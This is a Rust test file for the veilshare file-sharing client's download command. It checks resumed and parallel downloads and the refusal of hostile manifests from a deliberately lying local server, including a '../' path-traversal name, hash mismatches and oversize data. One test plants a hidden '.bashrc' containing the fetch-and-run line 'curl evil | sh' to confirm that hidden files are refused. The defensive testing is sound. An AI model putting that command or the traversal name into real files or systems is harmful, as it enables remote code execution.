//! `veilshare get` on plain `http://` links: verified downloads, resume, and refusal of
//! hostile manifests (served by a deliberately lying server in the test).

use std::path::{Path, PathBuf};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::util::{Server, data, names};

async fn get(link: &str, out: &Path, state: &Path) -> (bool, String) {
    crate::util::get_cli(link, out, state, false).await
}

#[tokio::test]
async fn get_fetches_every_file_verified_and_resumes_a_partial_one() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(&dir.path().join("server")).await;
    let big = data(6 << 20, 31);
    let small = b"small".to_vec();
    let view = server
        .create(&[("big.bin", &big), ("small.txt", &small)], &[])
        .await;
    let link = view.links.local.clone().expect("link");
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).expect("out");
    // Half of big.bin is already here from an interrupted run.
    let part = out.join(format!(".{}.veilshare-part", view.files[0].hash));
    std::fs::write(&part, &big[..3 << 20]).expect("part");
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(ok, "{output}");
    assert_eq!(std::fs::read(out.join("big.bin")).expect("big"), big);
    assert_eq!(std::fs::read(out.join("small.txt")).expect("small"), small);
    assert!(!part.exists());
    // Only the missing half crossed the wire: 3 MiB + 5 bytes of a 6 MiB + 5 bytes share. The
    // count is recorded just after each response ends: wait until nothing is in flight.
    let view = server
        .wait_view(&view.id, "the transfers to be recorded", |v| {
            v.downloads_in_flight == 0
        })
        .await;
    assert_eq!(
        view.downloads_completed, 0,
        "the resume must not have re-sent the whole file"
    );
    server.stop().await;
}

async fn get_parallel(link: &str, out: &Path, state: &Path, parallel: &str) -> (bool, String) {
    crate::util::get_cli_extra(link, out, state, false, "2m", &["--parallel", parallel]).await
}

/// The chunk of a ranged download's journal (`fetch::CHUNK`).
const CHUNK: usize = 4 << 20;

#[tokio::test]
async fn a_parallel_download_counts_once_under_a_limit_of_one() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(&dir.path().join("server")).await;
    let content = data(10 << 20, 33);
    let view = server
        .create(&[("film.mkv", &content)], &[("max_downloads", "1")])
        .await;
    let link = view.links.local.clone().expect("link");
    let out = dir.path().join("out");
    let (ok, output) = get_parallel(&link, &out, &dir.path().join("client"), "4").await;
    assert!(
        ok,
        "four ranges of one download must pass a limit of one: {output}"
    );
    assert_eq!(std::fs::read(out.join("film.mkv")).expect("file"), content);
    let view = server
        .wait_view(&view.id, "the download to be counted", |v| {
            v.downloads_in_flight == 0 && v.state.is_ended()
        })
        .await;
    assert_eq!(view.downloads_completed, 1);
    assert_eq!(view.state, veilshare_shared::ShareState::Exhausted);
    let leftovers: Vec<_> = std::fs::read_dir(&out)
        .expect("out")
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        leftovers.len(),
        1,
        "part or journal left behind: {leftovers:?}"
    );
    server.stop().await;
}

/// What an interrupted ranged download of `hash` left in `out`: its part file holding `part`
/// and its journal holding `marks` (one byte per chunk). Returns their paths.
fn interrupted(
    out: &Path,
    hash: &veilshare_shared::ContentHash,
    part: &[u8],
    marks: &[u8],
) -> (PathBuf, PathBuf) {
    std::fs::create_dir_all(out).expect("out");
    let paths = (
        out.join(format!(".{hash}.veilshare-part")),
        out.join(format!(".{hash}.veilshare-ranges")),
    );
    std::fs::write(&paths.0, part).expect("part");
    std::fs::write(&paths.1, marks).expect("journal");
    paths
}

#[tokio::test]
async fn a_parallel_download_resumes_only_the_chunks_its_journal_lacks() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(&dir.path().join("server")).await;
    // Three chunks: 4 MiB, 4 MiB and a short last one.
    let content = data(2 * CHUNK + 123_457, 34);
    let view = server
        .create(&[("archive.tar", &content)], &[("max_downloads", "1")])
        .await;
    let link = view.links.local.clone().expect("link");
    let out = dir.path().join("out");
    // An interrupted run got the first and the last chunk to disk; the middle one is a hole.
    let mut partial = content.clone();
    partial[CHUNK..2 * CHUNK].fill(0);
    let (part, journal) = interrupted(&out, &view.files[0].hash, &partial, &[1, 0, 1]);
    let (ok, output) = get_parallel(&link, &out, &dir.path().join("client"), "4").await;
    assert!(ok, "{output}");
    assert_eq!(
        std::fs::read(out.join("archive.tar")).expect("file"),
        content
    );
    assert!(!part.exists() && !journal.exists());
    // Only the missing chunk crossed the wire: less than one copy, so nothing is counted and
    // the single download the share allows is still there.
    let view = server
        .wait_view(&view.id, "the transfer to be recorded", |v| {
            v.downloads_in_flight == 0
        })
        .await;
    assert_eq!(view.downloads_completed, 0);
    assert_eq!(view.state, veilshare_shared::ShareState::Live);
    server.stop().await;
}

#[tokio::test]
async fn a_journal_that_vouches_for_wrong_bytes_is_caught_and_discarded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(&dir.path().join("server")).await;
    let content = data(2 * CHUNK + 10, 35);
    let view = server.create(&[("data.bin", &content)], &[]).await;
    let link = view.links.local.clone().expect("link");
    let out = dir.path().join("out");
    // The journal claims chunk 0, but a crash (or a disk) left garbage there.
    let garbage = vec![0xAAu8; content.len()];
    let (part, journal) = interrupted(&out, &view.files[0].hash, &garbage, &[1, 0, 0]);
    let (ok, output) = get_parallel(&link, &out, &dir.path().join("client"), "2").await;
    assert!(!ok, "a wrong chunk slipped through");
    assert!(
        output.contains("does not match its BLAKE3 hash"),
        "{output}"
    );
    assert!(!part.exists() && !journal.exists() && !out.join("data.bin").exists());
    // The next run starts afresh and succeeds.
    let (ok, output) = get_parallel(&link, &out, &dir.path().join("client"), "2").await;
    assert!(ok, "{output}");
    assert_eq!(std::fs::read(out.join("data.bin")).expect("file"), content);
    server.stop().await;
}

/// How a hostile test server answers one request.
enum Answer {
    /// These bytes (a whole HTTP response), then the connection closes.
    Bytes(Vec<u8>),
    /// These bytes, then nothing more, with the connection held open.
    Stall(Vec<u8>),
}

/// A 200 answer with `payload`, its length stated or not.
fn answer_200(payload: &[u8], stated_length: bool) -> Vec<u8> {
    let length = if stated_length {
        format!("Content-Length: {}\r\n", payload.len())
    } else {
        String::new()
    };
    let mut answer = format!("HTTP/1.1 200 OK\r\n{length}Connection: close\r\n\r\n").into_bytes();
    answer.extend_from_slice(payload);
    answer
}

/// A test sender on 127.0.0.1 that answers every request (its head) with `respond`, counting
/// them; returns its link and the count.
async fn hostile_server(
    respond: impl Fn(&str) -> Answer + Send + Sync + 'static,
) -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let respond = std::sync::Arc::new(respond);
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    let counted = count.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let respond = respond.clone();
            tokio::spawn(async move {
                let mut request = vec![0u8; 4096];
                let n = socket.read(&mut request).await.unwrap_or(0);
                let request = String::from_utf8_lossy(&request[..n]).into_owned();
                match respond(&request) {
                    Answer::Bytes(bytes) => {
                        let _ = socket.write_all(&bytes).await;
                    }
                    Answer::Stall(bytes) => {
                        let _ = socket.write_all(&bytes).await;
                        std::future::pending::<()>().await;
                    }
                }
            });
        }
    });
    (format!("http://{addr}/"), count)
}

/// The manifest of one file `name` of `size` bytes with the hash of `claimed`.
fn manifest_of(name: &str, size: u64, claimed: &[u8]) -> Vec<u8> {
    let hash = veilshare_shared::ContentHash::parse(&blake3::hash(claimed).to_hex())
        .expect("a BLAKE3 hash");
    serde_json::to_vec(&veilshare_shared::Manifest {
        label: None,
        content_hash: hash.clone(),
        total_size: size,
        files: vec![veilshare_shared::ManifestFile {
            name: name.to_owned(),
            size,
            blake3: hash,
            path: "files/x".into(),
        }],
        download: "download".into(),
        downloads_remaining: None,
        expires_at: None,
        accepting_downloads: true,
    })
    .expect("json")
}

/// A server whose manifest lists one file `name` with the hash of `claimed`, and that answers
/// every other request with `body`.
async fn lying_server(name: &str, claimed: &[u8], body: &[u8]) -> String {
    let manifest = manifest_of(name, body.len() as u64, claimed);
    let body = body.to_vec();
    let (link, _) = hostile_server(move |request| {
        Answer::Bytes(if request.starts_with("GET /manifest.json") {
            answer_200(&manifest, true)
        } else {
            answer_200(&body, true)
        })
    })
    .await;
    link
}

#[tokio::test]
async fn get_never_replaces_a_file_and_refuses_hidden_ones_unless_asked() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(&dir.path().join("server")).await;
    let view = server.create(&[("notes.txt", b"theirs")], &[]).await;
    let link = view.links.local.clone().expect("link");
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).expect("out");
    std::fs::write(out.join("notes.txt"), b"mine").expect("mine");
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(ok, "{output}");
    assert_eq!(std::fs::read(out.join("notes.txt")).expect("mine"), b"mine");
    assert_eq!(
        std::fs::read(out.join("notes (1).txt")).expect("theirs"),
        b"theirs"
    );
    assert!(
        output.contains("notes (1).txt") && output.contains("left alone"),
        "{output}"
    );
    // A rerun finds the copy it placed: nothing new.
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(ok, "{output}");
    assert_eq!(names(&out), ["notes (1).txt", "notes.txt"]);

    // A hidden file (a shell's start-up file, fetched into a home folder) is refused…
    let hidden = server.create(&[(".bashrc", b"curl evil | sh")], &[]).await;
    let link = hidden.links.local.clone().expect("link");
    let home = dir.path().join("home");
    let (ok, output) = get(&link, &home, &dir.path().join("client")).await;
    assert!(!ok && output.contains("--allow-hidden"), "{output}");
    assert!(names(&home).is_empty(), "{:?}", names(&home));
    // …unless asked for.
    let (ok, output) = crate::util::get_cli_extra(
        &link,
        &home,
        &dir.path().join("client"),
        false,
        "2m",
        &["--allow-hidden"],
    )
    .await;
    assert!(ok, "{output}");
    assert_eq!(names(&home), [".bashrc"]);
    server.stop().await;
}

#[tokio::test]
async fn a_sender_cannot_send_more_than_the_size_it_stated() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("client");
    // An endless body for a file said to be 4 bytes: it stops at the size, keeps nothing.
    let manifest = manifest_of("small.txt", 4, b"good");
    let (link, _) = hostile_server(move |request| {
        Answer::Bytes(if request.starts_with("GET /manifest.json") {
            answer_200(&manifest, true)
        } else {
            answer_200(&vec![b'x'; 8 << 20], false)
        })
    })
    .await;
    let out = dir.path().join("endless");
    let (ok, output) = get(&link, &out, &state).await;
    assert!(
        !ok && output.contains("more than the file's 4 bytes"),
        "{output}"
    );
    let written: u64 = std::fs::read_dir(&out)
        .expect("out")
        .flatten()
        .filter_map(|e| e.metadata().ok())
        .map(|m| m.len())
        .sum();
    assert!(written <= 4, "{written} bytes written for a 4-byte file");
}

#[tokio::test]
async fn a_size_no_disk_holds_is_refused_before_anything_is_written() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("client");
    let manifest = manifest_of("huge.bin", 1 << 50, b"huge");
    let (link, _) = hostile_server(move |request| {
        Answer::Bytes(if request.starts_with("GET /manifest.json") {
            answer_200(&manifest, true)
        } else {
            answer_200(b"huge", true)
        })
    })
    .await;
    let out = dir.path().join("huge");
    for parallel in ["1", "4"] {
        let (ok, output) =
            crate::util::get_cli_extra(&link, &out, &state, false, "2m", &["--parallel", parallel])
                .await;
        assert!(
            !ok && output.contains("not enough free disk space"),
            "{output}"
        );
        assert!(names(&out).is_empty(), "{:?}", names(&out));
    }
}

#[tokio::test]
async fn a_redirect_to_another_host_is_not_followed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("client");
    let (elsewhere, asked) = hostile_server(|_| Answer::Bytes(answer_200(b"{}", true))).await;
    let (link, _) = hostile_server(move |_| {
        Answer::Bytes(
            format!(
                "HTTP/1.1 302 Found\r\nLocation: {elsewhere}manifest.json\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .into_bytes(),
        )
    })
    .await;
    let (ok, output) = get(&link, &dir.path().join("redirected"), &state).await;
    assert!(!ok && output.contains("HTTP 302"), "{output}");
    assert_eq!(asked.load(std::sync::atomic::Ordering::SeqCst), 0);
}

#[tokio::test]
async fn a_sender_that_goes_silent_is_given_up_after_the_timeout() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("client");
    let manifest = manifest_of("slow.txt", 10, b"0123456789");
    let (link, _) = hostile_server(move |request| {
        if request.starts_with("GET /manifest.json") {
            Answer::Bytes(answer_200(&manifest, true))
        } else {
            Answer::Stall(
                b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nConnection: close\r\n\r\n01".to_vec(),
            )
        }
    })
    .await;
    let out = dir.path().join("stalled");
    let stalled = crate::util::get_cli_with(&link, &out, &state, false, "2s");
    let (ok, output) = tokio::time::timeout(std::time::Duration::from_secs(60), stalled)
        .await
        .expect("get gave up on a silent sender");
    assert!(!ok && output.contains("sent nothing for 2 s"), "{output}");
}

#[tokio::test]
async fn get_refuses_names_that_would_escape_the_output_folder() {
    let dir = tempfile::tempdir().expect("tempdir");
    let link = lying_server("../escaped.txt", b"evil", b"evil").await;
    let out = dir.path().join("out");
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(!ok);
    assert!(output.contains("refusing"), "{output}");
    assert!(!dir.path().join("escaped.txt").exists());
}

#[tokio::test]
async fn get_rejects_content_that_does_not_match_its_hash() {
    let dir = tempfile::tempdir().expect("tempdir");
    let link = lying_server("file.txt", b"good", b"evil").await;
    let out = dir.path().join("out");
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(!ok);
    assert!(
        output.contains("does not match its BLAKE3 hash"),
        "{output}"
    );
    assert!(
        !out.join("file.txt").exists(),
        "unverified content was put in place"
    );
    let part = format!(".{}.veilshare-part", blake3::hash(b"good").to_hex());
    assert!(!out.join(part).exists());
}

#[tokio::test]
async fn get_handles_the_longest_allowed_file_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let server = Server::start(&dir.path().join("server")).await;
    let name = format!("{}.txt", "n".repeat(251));
    assert_eq!(name.len(), veilshare_shared::MAX_FILE_NAME_BYTES);
    let view = server.create(&[(name.as_str(), b"long name")], &[]).await;
    let out = dir.path().join("out");
    let link = view.links.local.clone().expect("link");
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(ok, "{output}");
    assert_eq!(std::fs::read(out.join(&name)).expect("file"), b"long name");
    server.stop().await;
}

#[tokio::test]
async fn headless_share_prints_a_link_and_exits_when_the_limit_is_reached() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("report.pdf");
    let content = data(200_000, 32);
    std::fs::write(&file, &content).expect("write");
    let mut share = crate::util::HeadlessShare::start(
        &[
            "--no-tor",
            "--public-listen",
            "127.0.0.1:0",
            "--max-downloads",
            "1",
        ],
        &dir.path().join("data"),
        &file,
    );
    let link = share.wait_for(crate::util::DEADLINE, "http://").await;
    let out = dir.path().join("out");
    let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
    assert!(ok, "{output}");
    assert_eq!(
        std::fs::read(out.join("report.pdf")).expect("file"),
        content
    );
    let status = tokio::time::timeout(crate::util::DEADLINE, share.child.wait())
        .await
        .expect("veilshare share exits by itself after the last download")
        .expect("status");
    assert!(status.success());
}

/// A manifest of 100,000 files (it fits in the 16 MiB a manifest may take) is refused before
/// any file is fetched: no share holds more than 10,000.
#[tokio::test]
async fn a_manifest_of_a_hundred_thousand_files_is_refused_before_any_is_fetched() {
    let dir = tempfile::tempdir().expect("tempdir");
    let one: veilshare_shared::Manifest =
        serde_json::from_slice(&manifest_of("f", 1, b"x")).expect("manifest");
    let mut many = one.clone();
    many.files = (0..100_000)
        .map(|i| veilshare_shared::ManifestFile {
            name: format!("f{i}"),
            path: format!("files/f{i}"),
            ..one.files[0].clone()
        })
        .collect();
    many.total_size = 100_000;
    let manifest = serde_json::to_vec(&many).expect("json");
    assert!(manifest.len() < 16 << 20);
    let (link, requests) = hostile_server(move |request| {
        Answer::Bytes(if request.starts_with("GET /manifest.json") {
            answer_200(&manifest, true)
        } else {
            answer_200(b"x", true)
        })
    })
    .await;
    let out = dir.path().join("out");
    let (ok, output) = get(&link, &out, &dir.path().join("state")).await;
    assert!(!ok, "{output}");
    assert!(output.contains("more than 10000 files"), "{output}");
    assert_eq!(requests.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert!(names(&out).is_empty(), "{:?}", names(&out));
}
